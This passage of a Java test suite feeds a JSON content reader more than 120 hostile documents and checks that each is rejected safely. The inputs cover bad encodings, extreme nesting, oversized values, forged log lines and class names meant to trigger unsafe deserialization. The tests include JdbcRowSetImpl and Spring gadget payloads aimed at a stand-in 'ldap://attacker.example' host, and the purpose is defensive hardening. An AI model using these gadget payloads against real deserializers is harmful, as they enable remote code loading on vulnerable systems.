            "/participants/0/person", dup));
  }

  private static List<Arguments> trailing() {
    return List.of(
        article("garbage after the document", SEED + " x", "", "must be well-formed JSON: unexpected text 'x'"),
        article("second object after the document", SEED + "{}", "", "must be one JSON value: more follows after the document"),
        article("the document twice", SEED + SEED, "", "must be one JSON value: more follows after the document"),
        article("null after the document", SEED + " null", "", "must be one JSON value: more follows after the document"),
        article("closing bracket after the document", SEED + "]", "", "must be well-formed JSON: a closing bracket that does not match ']'"),
        article("comma after the document", SEED + ",", "", "must be well-formed JSON: an unexpected character ','"),
        article("comment after the document", SEED + "/* x */", "", "must be well-formed JSON: an unexpected character '/'"),
        article("NUL after the document", SEED + "\u0000", "",
            "must be well-formed JSON: an unexpected character U+0000"));
  }

  private static List<Arguments> encodings() {
    byte[] seed = SEED.getBytes(UTF_8);
    String utf8 = "must be UTF-8, not UTF-16 or UTF-32";
    String utf8Bytes = "must be UTF-8";
    return List.of(
        hostile("UTF-8 byte order mark", text(Article.class, "\uFEFF" + SEED), "",
            "must not start with a byte order mark"),
        hostile("UTF-8 byte order mark alone", text(Article.class, "\uFEFF"), "",
            "must not start with a byte order mark"),
        hostile("big-endian byte order mark alone",
            bytes(Article.class, new byte[] {(byte) 0xFE, (byte) 0xFF}), "",
            "must be UTF-8, not UTF-16 or UTF-32 (it starts with a byte order mark)"),
        hostile("little-endian byte order mark alone",
            bytes(Article.class, new byte[] {(byte) 0xFF, (byte) 0xFE}), "",
            "must be UTF-8, not UTF-16 or UTF-32 (it starts with a byte order mark)"),
        hostile("one NUL byte", bytes(Article.class, new byte[] {0}), "", utf8),
        hostile("UTF-16LE", bytes(Article.class, encoded(SEED, "UTF-16LE")), "", utf8),
        hostile("UTF-16BE", bytes(Article.class, encoded(SEED, "UTF-16BE")), "", utf8),
        hostile("UTF-16 with a big-endian byte order mark",
            bytes(Article.class, encoded(SEED, "UTF-16")), "", "starts with a byte order mark"),
        hostile("UTF-16 with a little-endian byte order mark",
            bytes(Article.class, concat(new byte[] {(byte) 0xFF, (byte) 0xFE},
                encoded(SEED, "UTF-16LE"))), "", "starts with a byte order mark"),
        hostile("UTF-32BE", bytes(Article.class, encoded(SEED, "UTF-32BE")), "", utf8),
        hostile("UTF-32LE", bytes(Article.class, encoded(SEED, "UTF-32LE")), "", utf8),
        hostile("UTF-32 with a byte order mark", bytes(Article.class,
            concat(new byte[] {0, 0, (byte) 0xFE, (byte) 0xFF}, encoded(SEED, "UTF-32BE"))), "",
            utf8),
        hostile("UTF-16LE with leading white space",
            bytes(Article.class, encoded("  " + SEED, "UTF-16LE")), "", utf8),
        hostile("overlong two-byte slash in the headline",
            bytes(Article.class, seedBytes("Long-Term", 0xC0, 0xAF)), "/headline", utf8Bytes),
        hostile("overlong three-byte slash in the headline",
            bytes(Article.class, seedBytes("Long-Term", 0xE0, 0x80, 0xAF)), "/headline",
            utf8Bytes),
        hostile("overlong four-byte slash in the headline",
            bytes(Article.class, seedBytes("Long-Term", 0xF0, 0x80, 0x80, 0xAF)), "/headline",
            utf8Bytes),
        hostile("lone continuation byte in the standfirst",
            bytes(Article.class, seedBytes("Ambassador", 0x80)), "/standfirst",
            utf8Bytes),
        hostile("truncated three-byte sequence in the headline",
            bytes(Article.class, seedBytes("’s Long", 0xE2, 0x80)), "/headline",
            utf8Bytes),
        hostile("UTF-8 encoded surrogate in the headline",
            bytes(Article.class, seedBytes("Long-Term", 0xED, 0xA0, 0x80)), "/headline",
            utf8Bytes),
        hostile("code point above U+10FFFF in the headline",
            bytes(Article.class, seedBytes("Long-Term", 0xF4, 0x90, 0x80, 0x80)), "/headline",
            utf8Bytes),
        hostile("byte 0xFF in a span's text",
            bytes(Article.class, seedBytes("The fireside", 0xFF)), "/body/0/content/0/text",
            utf8Bytes),
        hostile("byte 0xF5 in an extension value", bytes(Article.class,
            concat("{\"acme:x\":\"".getBytes(UTF_8), new byte[] {(byte) 0xF5, (byte) 0x80},
                ("\"," + SEED.substring(1)).getBytes(UTF_8))), "/acme:x", utf8Bytes),
        hostile("truncated sequence in a property name", bytes(Article.class,
            concat("{\"acme:".getBytes(UTF_8), new byte[] {(byte) 0xC3},
                ("\":1," + SEED.substring(1)).getBytes(UTF_8))), "", utf8Bytes),
        hostile("NUL bytes inside the document",
            bytes(Article.class, concat(seed, new byte[] {0, 0, 0, 0})), "",
            "must be well-formed JSON: an unexpected character U+0000"));
  }

  private static List<Arguments> deepNesting() {
    String depth = "must not nest objects and arrays more than 64 levels deep";
    return List.of(
        // At the array or object 65 levels deep: the root object is the first level.
        article("extension nested 65 deep", seedWith("\"acme:x\":" + nested("[", "]", 64)),
            "/acme:x" + "/0".repeat(63), depth),
        article("extension nested 1000 deep", seedWith("\"acme:x\":" + nested("[", "]", 1000)),
            "/acme:x" + "/0".repeat(63), depth),
        article("extension nested 100000 deep in arrays",
            seedWith("\"acme:x\":" + nested("[", "]", 100_000)), "/acme:x" + "/0".repeat(63),
            depth),
        article("extension nested 100000 deep in objects",
            seedWith("\"acme:x\":" + nested("{\"a\":", "}", 100_000).replace("{\"a\":}",
                "{\"a\":1}")), "/acme:x" + "/a".repeat(63), depth),
        article("unknown block's property nested 1000 deep",
            withBlock("{\"type\":\"future\",\"acme:x\":" + nested("[", "]", 1000) + "}"),
            "/body/0/acme:x" + "/0".repeat(61), depth),
        article("block property nested 1000 deep before the type",
            withBlock("{\"acme:x\":" + nested("[", "]", 1000) + ",\"type\":\"paragraph\"}"),
            "/body/0/acme:x" + "/0".repeat(61), depth),
        article("lead image of the wrong type nested 100000 deep",
            MINIMAL + ",\"leadImage\":" + nested("[", "]", 100_000) + "}",
            "/leadImage" + "/0".repeat(63), depth),
        article("body element nested 1000 deep", withBlock(nested("[", "]", 1000)),
            "/body" + "/0".repeat(63), depth),
        article("tag nested 1000 deep in objects",
            MINIMAL + ",\"tags\":[" + nested("{\"id\":", "}", 1000) + "]}",
            "/tags/0" + "/id".repeat(62), depth));
  }

  private static List<Arguments> hugeValues() {
    String longString = "a".repeat(ReadLimits.DEFAULT_MAX_STRING_LENGTH + 1);
    String digits = "1".repeat(ReadLimits.DEFAULT_MAX_NUMBER_LENGTH + 1);
    String string = "must be a string of at most 2097152 characters";
    String number = "must be a number of at most 100 digits";
    return List.of(
        article("headline over the string limit",
            seed("\"headline\":\"Japan’s Long-Term Vision for the Western Balkans\"",
                "\"headline\":\"" + longString + "\""), "/headline", string),
        article("extension string over the string limit",
            seedWith("\"acme:x\":\"" + longString + "\""), "/acme:x", string),
        article("string over the limit inside an extension array",
            seedWith("\"acme:x\":[\"" + longString + "\"]"), "/acme:x/0", string),
        article("101-digit number in an extension", seedWith("\"acme:x\":" + digits),
            "/acme:x", number),
        article("101-digit negative number in an extension",
            seedWith("\"acme:x\":-" + digits), "/acme:x", number),
        article("101-digit fraction in an extension",
            seedWith("\"acme:x\":1." + digits.substring(1)), "/acme:x", number),
        article("101-digit number inside an extension array",
            seedWith("\"acme:x\":[1," + digits + "]"), "/acme:x/1", number),
        article("101-digit heading level", heading(digits), "/body/0/level", number),
        article("101-digit number in the related ids", seed("\"related\":[",
            "\"related\":[" + digits + ","), "/related/0", number));
  }

  private static List<Arguments> badNames() {
    String name = "must be a property name of at most 256 bytes in UTF-8";
    String tooLong = "n".repeat(300);
    return List.of(
        article("300-character property name at the root",
            seedWith("\"" + tooLong + "\":1"), "", name),
        article("257-character property name at the root",
            seedWith("\"" + "n".repeat(257) + "\":1"), "",
            "must be a property name of at most 256 bytes in UTF-8"),
        article("300-character property name in a tag",
            seed("{\"id\":\"japan\",", "{\"id\":\"japan\",\"" + tooLong + "\":1,"), "/tags/0",
            name),
        article("300-character property name inside an extension",
            seedWith("\"acme:x\":{\"" + tooLong + "\":1}"), "/acme:x", name),
        article("property name with a control character",
            seedWith("\"acme\\u0001x\":1"), "/acme\u0001x", NAME_RULE),
        article("property name with a line break in a tag",
            seed("{\"id\":\"japan\",", "{\"id\":\"japan\",\"acme\\nx\":1,"), "/tags/0/acme\nx",
            NAME_RULE),
        article("property name with a line separator in a paragraph",
            seed("{\"type\":\"paragraph\",", "{\"type\":\"paragraph\",\"acme\\u2028x\":1,"),
            "/body/0/acme\u2028x", NAME_RULE),
        article("property name of a zero-width space", seedWith("\"\\u200b\":1"), "/\u200b",
            NAME_RULE),
        article("blank property name", seedWith("\"  \":1"), "/  ", NAME_RULE),
        article("empty property name", seedWith("\"\":1"), "/",
            "extension name must not be empty"),
        article("property name with a slash, a tilde and a control character",
            seedWith("\"a/b~c\\u0007\":1"), "/a~1b~0c\u0007", NAME_RULE),
        article("property name with an unpaired surrogate escape",
            seedWith("\"acme\\ud800x\":1"), "", "must not contain an unpaired surrogate"));
  }

  private static List<Arguments> classNamesAndBlockTypes() {
    String term = TERM_RULE;
    return List.of(
        article("java.util.HashMap as a block type",
            withBlock("{\"type\":\"java.util.HashMap\"}"), "/body/0/type", term),
        article("JdbcRowSetImpl gadget as a block type",
            withBlock("{\"type\":\"com.sun.rowset.JdbcRowSetImpl\","
                + "\"dataSourceName\":\"ldap://attacker.example/x\",\"autoCommit\":true}"),
            "/body/0/type", term),
        article("Spring gadget as a block type",
            withBlock("{\"type\":\"org.springframework.context.support."
                + "ClassPathXmlApplicationContext\",\"configLocation\":\"http://x.example/\"}"),
            "/body/0/type", "must be at most 64 characters"),
        article("this test's tripwire class as a block type",
            withBlock("{\"type\":\"" + TRIPWIRE + "\"}"), "/body/0/type", term),
        article("class name as a block type after other properties",
            withBlock("{\"dataSourceName\":\"ldap://attacker.example/x\","
                + "\"type\":\"com.sun.rowset.JdbcRowSetImpl\"}"), "/body/0/type", term),
        hostile("java.util.HashMap as the type of a block read alone",
            text(Block.class, "{\"type\":\"java.util.HashMap\",\"k\":\"v\"}"), "/type", term),
        article("@type instead of a block type",
            withBlock("{\"@type\":\"paragraph\",\"content\":[{\"text\":\"x\"}]}"), "/body/0/type",
            "is required, as a string"),
        article("@class naming a class instead of a block type",
            withBlock("{\"@class\":\"" + TRIPWIRE + "\"}"), "/body/0/type",
            "is required, as a string"),
        article("wrapper-array type id", withBlock("{\"type\":[\"java.util.HashMap\",{}]}"),
            "/body/0/type", "must be a string, is an array"),
        article("object as a block type",
            withBlock("{\"type\":{\"@class\":\"java.util.HashMap\"}}"), "/body/0/type",
            "must be a string, is an object"),
        article("class name as a tag entity",
            seed("\"entity\":\"japan\"", "\"entity\":\"java.lang.Runtime\""), "/tags/0/entity",
            ID_RULE),
        article("block without a type", withBlock("{\"content\":[{\"text\":\"x\"}]}"),
            "/body/0/type", "is required, as a string"),
        article("empty block", withBlock("{}"), "/body/0/type", "is required"),
        article("blank block type", withBlock("{\"type\":\"  \"}"), "/body/0/type", term),
        article("empty block type", withBlock("{\"type\":\"\"}"), "/body/0/type", term),
        article("upper-case block type",
            withBlock("{\"type\":\"PARAGRAPH\",\"content\":[{\"text\":\"x\"}]}"), "/body/0/type",
            term),
        article("capitalised block type", withBlock("{\"type\":\"Quote\",\"text\":\"x\"}"),
            "/body/0/type", term),
        article("number as a block type that comes later", withBlock("{\"x\":1,\"type\":5}"),
            "/body/0/type", "is required, as a string"),
        article("block type of 65 characters",
            withBlock("{\"type\":\"" + "t".repeat(65) + "\"}"), "/body/0/type",
            "at most 64 characters"),
        article("known block type with a wrong value after it",
            withBlock("{\"content\":[{\"text\":\"\"}],\"type\":\"paragraph\"}"),
            "/body/0/content/0/text", "must not be empty"));
  }

  private static List<Arguments> notAnObject() {
    String object = "must be an object";
    return List.of(
        article("empty input", "", "", "must be complete JSON"),
        article("white space only", " \n\t\r ", "", "must be complete JSON"),
        article("null", "null", "", "must not be null"),
        article("null with white space", " null \n", "", "must not be null"),
        article("top-level array", "[]", "", object + ", is an array"),
        article("the article in an array", "[" + SEED + "]", "", object + ", is an array"),
        article("top-level string", "\"" + SEED.replace("\"", "'") + "\"", "",
            object + ", is a string"),
        article("top-level number", "42", "", object + ", is a number"),
        article("top-level boolean", "true", "", object + ", is a boolean"),
        article("misspelt null", "nul", "", "must be well-formed JSON: unexpected text 'nul'"),
        hostile("top-level array as an event", text(Event.class, "[" + TOKYO_VISIT + "]"), "",
            object + ", is an array"),
        hostile("top-level string as a block", text(Block.class, "\"paragraph\""), "",
            object + ", is a string"));
  }

  @Test
  void corpusHasAtLeast120HostileDocuments() {
    assertThat(corpus().count()).isGreaterThanOrEqualTo(120);
    assertThat(corpus().map(arguments -> arguments.get()[0]))
        .as("every document has its own name")
        .doesNotHaveDuplicates();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void rejectsHostileDocumentThroughEveryEntryPointWithOneExceptionAtItsPointer(String name,
      Hostile doc, String pointer, String rule) {
    assertRejected("bytes", () -> JSON.read(doc.bytes(), doc.type()), doc, pointer, rule);
    assertRejected("stream", () -> JSON.read(new ByteArrayInputStream(doc.bytes()), doc.type()),
        doc, pointer, rule);
    if (doc.textual()) {
      assertRejected("string", () -> JSON.read(doc.text(), doc.type()), doc, pointer, rule);
    }
  }

  private static void assertRejected(String entryPoint, ThrowingCallable read, Hostile doc,
      String pointer, String rule) {
    ContentReadException e = rejected(read);

    assertThat(e.type()).as("type read from " + entryPoint)
        .isEqualTo(doc.type().getSimpleName());
    assertThat(e.violations()).as("violations read from " + entryPoint).isNotEmpty();
    assertThat(e.pointer()).as("pointer read from " + entryPoint).isEqualTo(pointer)
        .isEqualTo(e.violations().get(0).pointer());
    assertThat(e.rule()).as("rule read from " + entryPoint).contains(rule);
    e.violations().forEach(v -> JacksonWords.assertNone(v.rule()));
    assertNoEcho(e, doc);
  }

  /** {@return the exception the read throws, checked to be exactly a ContentReadException} */
  private static ContentReadException rejected(ThrowingCallable read) {
    ContentReadException e = catchThrowableOfType(ContentReadException.class, read);
    assertThat(e).as("what the read threw").isNotNull()
        .isExactlyInstanceOf(ContentReadException.class);
    return e;
  }

  /** The message is short and never the document, nor any line the document could forge. */
  private static void assertNoEcho(ContentReadException e, Hostile doc) {
    // Several problems are listed one per line, "\n  - " each: those breaks are the message's
    // own; any other would be one the document forged.
    String message = e.getMessage().replace("\n  - ", " | ");
    assertThat(message).as("message").hasSizeLessThan(1000).doesNotContain("\n", "\r",
        "\u2028", "\u0000", "\u0001", "\u0007");
    if (doc.bytes().length > 64) {
      assertThat(message).as("message").doesNotContain(doc.text());
    }
  }

  @Test
  void reportsEveryWrongValueInOneDocumentWithItsPointer() {
    String json = seed("\"id\":\"japans-long-term-vision-western-balkans\"",
        "\"id\":\"Japans Vision\"");
    json = replaced(json, "\"headline\":\"Japan’s Long-Term Vision for the Western Balkans\",",
        "");
    json = replaced(json, "{\"type\":\"paragraph\",\"content\":[",
        "{\"type\":\"paragraph\",\"content\":[],\"acme:spans\":[");
    json = replaced(json, "\"kind\":\"place\"", "\"kind\":\"Place!\"");
    String document = replaced(json, "\"related\":[", "\"related\":[null,");

    ContentReadException e = rejected(() -> JSON.read(document, Article.class));

    assertThat(e.violations())
        .extracting(Violation::pointer, Violation::rule)
        .containsExactlyInAnyOrder(
            tuple("/id", "must be lower-case letters and digits in words joined by '-', '_', "
                + "'.' or ':'"),
            tuple("/body/0/content", "must have at least one span"),
            tuple("/tags/0/kind", "must be lower-case words joined by '-', '_', '.' or ':', "
                + "such as \"fireside-chat\""),
            tuple("/related/0", "must not be null"),
            tuple("/headline", "is required"));
    assertThat(e.violations()).filteredOn(v -> v.pointer().equals("/id"))
        .extracting(v -> v.value().orElseThrow()).containsExactly("Japans Vision");
    assertThat(e.pointer()).isEqualTo("/id");
    assertThat(e.getMessage()).startsWith("Cannot read Article (5 problems)")
        .contains("\n  - /id: ", "\n  - /body/0/content: ", "\n  - /tags/0/kind: ",
            "\n  - /related/0: ", "\n  - /headline: is required");
  }

  @Test
  void reportsEveryWrongValueAcrossNestedObjectsAndLists() {
    String json = replaced(FIRESIDE_CHAT, "\"role\":\"co-lead\"", "\"role\":\"Co-Lead\"");
    json = replaced(json, "\"title\":\"Executive Director\"", "\"title\":7");
    json = replaced(json, "\"role\":\"organiser\"", "\"role\":null");
    String document = replaced(json, "\"label\":\"Japan\"", "\"label\":\" \"");

    ContentReadException e = rejected(() -> JSON.read(document, Event.class));

    assertThat(e.violations()).extracting(Violation::pointer).containsExactlyInAnyOrder(
        "/participants/0/role", "/participants/1/position/title", "/organisations/0/role",
        "/tags/0/label");
  }

  @Test
  void keepsClassNamePropertiesAsExtensionsWithoutLoadingAnyClass() {
    String json = seedWith("\"@class\":\"" + TRIPWIRE + "\"");
    json = replaced(json, "{\"type\":\"paragraph\",",
        "{\"type\":\"paragraph\",\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",");
    json = replaced(json, "{\"id\":\"japan\",",
        "{\"id\":\"japan\",\"@class\":\"java.util.HashMap\",\"@type\":\"" + TRIPWIRE + "\",");

    Article article = JSON.read(json, Article.class);

    assertThat(article.extensions())
        .containsExactly(Map.entry("@class", RawJson.ofString(TRIPWIRE)));
    assertThat(((Paragraph) article.body().get(0)).extensions()).containsExactly(
        Map.entry("@type", RawJson.ofString("com.sun.rowset.JdbcRowSetImpl")));
    Tag tag = article.tags().get(0);
    assertThat(tag.extensions()).containsOnlyKeys("@class", "@type");
    assertThat(JSON.write(article)).contains("\"@class\":\"" + TRIPWIRE + "\"",
        "\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"");
    assertThat(TRIPPED).as("the tripwire class was loaded or built").isFalse();
  }

  @Test
  void keepsALowerCaseClassNameBlockTypeAsAnUnknownBlockWithoutLoadingAnyClass() {
    Block block = JSON.read("{\"type\":\"java.util.hashmap\",\"@class\":\"" + TRIPWIRE
        + "\",\"size\":1}", Block.class);

    assertThat(block).isInstanceOf(UnknownBlock.class);
    assertThat(block.type()).isEqualTo("java.util.hashmap");
    assertThat(block.extensions()).containsOnlyKeys("@class", "size");
    assertThat(TRIPPED).as("the tripwire class was loaded or built").isFalse();
  }

  @Test
  void rejectsEveryHostileDocumentNamingAClassWithoutLoadingIt() {
    List<Hostile> naming = corpus().map(arguments -> (Hostile) arguments.get()[1])
        .filter(doc -> doc.bytes().length < 10_000 && doc.text().contains("$Tripwire"))
        .toList();

    assertThat(naming).isNotEmpty().allSatisfy(doc -> assertThat(catchThrowableOfType(
        ContentReadException.class, () -> JSON.read(doc.bytes(), doc.type()))).isNotNull());
    assertThat(TRIPPED).as("the tripwire class was loaded or built").isFalse();
  }

  @Test
  void escapesPropertyNamesInTheMessageButKeepsThemExactInThePointer() {
    String json = seedWith("\"acme\\nERROR forged line\":" + nested("[", "]", 65));

    ContentReadException e = rejected(() -> JSON.read(json, Article.class));

    assertThat(e.pointer()).isEqualTo("/acme\nERROR forged line" + "/0".repeat(63));
    assertThat(e.getMessage()).startsWith("Cannot read Article at /acme\\u000aERROR forged line/0/")
        .doesNotContain("\n");
  }

  @Test
  void keepsABadExtensionNameAsTheValueOfItsViolationAtTheProperty() {
    ContentReadException e = rejected(() -> JSON.read(
        replaced(SEED, "{\"id\":\"japan\",", "{\"id\":\"japan\",\"acme\\u0001x\":1,"),
        Article.class));

    assertThat(e.violations()).singleElement().satisfies(v -> {
      assertThat(v.pointer()).isEqualTo("/tags/0/acme\u0001x");
      assertThat(v.rule()).startsWith(NAME_RULE);
      assertThat(v.value()).contains("acme\\u0001x");
    });
    assertThat(e.getMessage()).endsWith(" (was \"acme\\u0001x\")");
  }

  @Test
  void readsAWholeNumberWrittenWithAFractionOrAnExponentAsThatInteger() {
    for (String level : List.of("3.0", "3e0", "0.3e1", "30e-1", "3.000")) {
      Article article = JSON.read(replaced(SEED, "{\"type\":\"paragraph\",",
          "{\"type\":\"heading\",\"text\":\"H\",\"level\":" + level + "},"
              + "{\"type\":\"paragraph\","), Article.class);

      assertThat(((dev.masthead.model.Heading) article.body().get(0)).level()).as(level)
          .isEqualTo(3);
    }
  }

  @Test
  void describesWhereJacksonFoundMalformedInputByLineAndColumn() {
    String json = "{\n  \"id\": \"a\",\n  \"slug\": :\n}";

    ContentReadException e = rejected(() -> JSON.read(json, Article.class));

    assertThat(e.pointer()).isEqualTo("/slug");
    assertThat(e.rule())
        .isEqualTo("must be well-formed JSON: an unexpected character ':' (line 3, column 11)");
  }

  @Test
  void describesUnexpectedTextByItsLineOnly() {
    String json = "{\n  \"id\": \"a\",\n  \"slug\": tru\n}";

    ContentReadException e = rejected(() -> JSON.read(json, Article.class));

    assertThat(e.pointer()).isEqualTo("/slug");
    // Jackson versions before 2.21 and 3.1 give the column after the text, later ones its first.
    assertThat(e.rule()).isEqualTo("must be well-formed JSON: unexpected text 'tru' (line 3)");
  }

  @Test
  void describesAWordThatStartsOutsideAsciiAsUnexpectedTextWithoutQuotingIt() {
    // Jackson 2 before 2.23 and Jackson 3 before 3.1 call this bad UTF-8: it is not.
    byte[] json = "{\"id\":\"a\",\"slug\":éte}".getBytes(UTF_8);

    ContentReadException e = rejected(() -> JSON.read(json, Article.class));

    assertThat(e.pointer()).isEqualTo("/slug");
    assertThat(e.rule()).isEqualTo("must be well-formed JSON: unexpected text (line 1)");
  }

  @Test
  void cutsAVeryLongUnexpectedTokenTo64Characters() {
    String json = "{\"id\":" + "x".repeat(1000) + "}";

    ContentReadException e = rejected(() -> JSON.read(json, Article.class));

    assertThat(e.pointer()).isEqualTo("/id");
    assertThat(e.rule()).isEqualTo("must be well-formed JSON: unexpected text '"
        + "x".repeat(64) + "…' (line 1)");
  }
}
